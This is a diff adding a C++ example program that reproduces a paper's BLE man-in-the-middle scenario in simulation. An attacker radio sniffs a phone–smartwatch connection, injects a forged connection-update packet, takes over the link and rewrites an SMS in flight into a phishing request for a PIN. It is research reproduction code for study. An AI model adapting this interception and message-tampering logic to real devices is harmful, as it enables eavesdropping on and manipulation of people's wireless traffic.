@@ -1,0 +1,124 @@
+// Scenario D (paper §VI-C): Man-in-the-Middle on an *established* connection.
+//
+// A phone pushes SMS notifications to a smartwatch. The attacker injects a
+// forged CONNECTION_UPDATE_IND; at its instant the watch jumps to the
+// attacker's transmit window while a second attacker front-end impersonates
+// the watch towards the phone. From then on every SDU crosses the attacker —
+// here the SMS text is rewritten in flight ("a SMS transmitted by the
+// smartphone to the smartwatch has been modified on the fly").
+#include <cstdio>
+
+#include "core/scenarios.hpp"
+#include "core/sniffer.hpp"
+#include "gatt/profiles.hpp"
+#include "host/central.hpp"
+#include "host/peripheral.hpp"
+
+using namespace ble;
+using namespace injectable;
+
+int main() {
+    Rng rng(5);
+    sim::Scheduler scheduler;
+    sim::RadioMedium medium(scheduler, rng.fork(), sim::PathLossModel{});
+
+    host::PeripheralConfig watch_cfg;
+    watch_cfg.name = "watch";
+    host::Peripheral watch_device(scheduler, medium, rng.fork(), watch_cfg);
+    gatt::SmartwatchProfile watch;
+    watch.install(watch_device.att_server(), "SmartWatch");
+    watch.on_sms = [&](const gatt::SmartwatchProfile::Sms& sms) {
+        std::printf("[%8.1f ms] WATCH  displays SMS from \"%s\": \"%s\"\n",
+                    to_ms(scheduler.now()), sms.sender.c_str(), sms.body.c_str());
+    };
+
+    host::CentralConfig phone_cfg;
+    phone_cfg.name = "phone";
+    phone_cfg.radio.position = {2.0, 0.0};
+    host::Central phone(scheduler, medium, rng.fork(), phone_cfg);
+
+    sim::RadioDeviceConfig a1_cfg;
+    a1_cfg.name = "attacker-1";
+    a1_cfg.position = {1.0, 1.732};
+    AttackerRadio attacker1(scheduler, medium, rng.fork(), a1_cfg);
+    sim::RadioDeviceConfig a2_cfg;
+    a2_cfg.name = "attacker-2";
+    a2_cfg.position = {1.0, 1.732};
+    AttackerRadio attacker2(scheduler, medium, rng.fork(), a2_cfg);
+
+    // Establish + sniff.
+    AdvSniffer sniffer(attacker1);
+    std::optional<SniffedConnection> sniffed;
+    sniffer.on_connection = [&](const SniffedConnection& conn, const link::ConnectReqPdu&) {
+        sniffed = conn;
+    };
+    sniffer.start();
+    watch_device.start();
+    link::ConnectionParams params;
+    params.hop_interval = 36;
+    params.timeout = 300;
+    phone.connect(watch_device.address(), params);
+    while (scheduler.now() < 5_s && !(sniffed && phone.connected())) {
+        if (!scheduler.run_one()) break;
+    }
+    if (!sniffed || !phone.connected()) return 1;
+    sniffer.stop();
+
+    // A first, untampered SMS.
+    phone.gatt().write_command(watch.sms_handle(),
+                               gatt::SmartwatchProfile::encode_sms("Alice", "lunch at 12?"));
+    scheduler.run_until(scheduler.now() + 300_ms);
+
+    // MitM takeover.
+    AttackSession session(attacker1, *sniffed);
+    session.start();
+    scheduler.run_until(scheduler.now() + 400_ms);
+
+    ScenarioD scenario(session, attacker2);
+    scenario.tamper = [&](Bytes sdu, bool from_master) -> std::optional<Bytes> {
+        // Rewrite SMS bodies crossing master -> slave (ATT Write Cmd 0x52).
+        if (from_master && sdu.size() > 3 && sdu[0] == 0x52) {
+            ByteReader r(BytesView(sdu).subspan(3));
+            if (auto sms = gatt::SmartwatchProfile::decode_sms(r.read_rest())) {
+                std::printf("[%8.1f ms] MITM   intercepted SMS \"%s\" -> rewriting\n",
+                            to_ms(scheduler.now()), sms->body.c_str());
+                const Bytes forged = gatt::SmartwatchProfile::encode_sms(
+                    sms->sender, "send your PIN to +1-555-0199");
+                Bytes out(sdu.begin(), sdu.begin() + 3);
+                out.insert(out.end(), forged.begin(), forged.end());
+                return out;
+            }
+        }
+        return sdu;
+    };
+    std::optional<ScenarioD::Result> result;
+    scenario.execute([&](const ScenarioD::Result& r) {
+        result = r;
+        std::printf("[%8.1f ms] MITM   established after %d injection attempt(s) — "
+                    "neither victim noticed\n",
+                    to_ms(scheduler.now()), r.attempts);
+    });
+    while (scheduler.now() < 120_s && !result) {
+        if (!scheduler.run_one()) break;
+    }
+    if (!result || !result->success) {
+        std::printf("MitM failed\n");
+        return 1;
+    }
+    scheduler.run_until(scheduler.now() + 1_s);
+
+    // The phone sends another SMS — through the attacker now.
+    std::printf("[%8.1f ms] PHONE  sends SMS: \"dinner at 8, love Bob\"\n",
+                to_ms(scheduler.now()));
+    phone.gatt().write_command(
+        watch.sms_handle(),
+        gatt::SmartwatchProfile::encode_sms("Bob", "dinner at 8, love Bob"));
+    scheduler.run_until(scheduler.now() + 3_s);
+
+    const bool tampered = !watch.messages().empty() &&
+                          watch.messages().back().body.find("PIN") != std::string::npos;
+    std::printf("\nresult: watch shows %zu message(s); last one %s\n",
+                watch.messages().size(),
+                tampered ? "was rewritten in flight (attack worked)" : "arrived intact");
+    return tampered ? 0 : 1;
+}
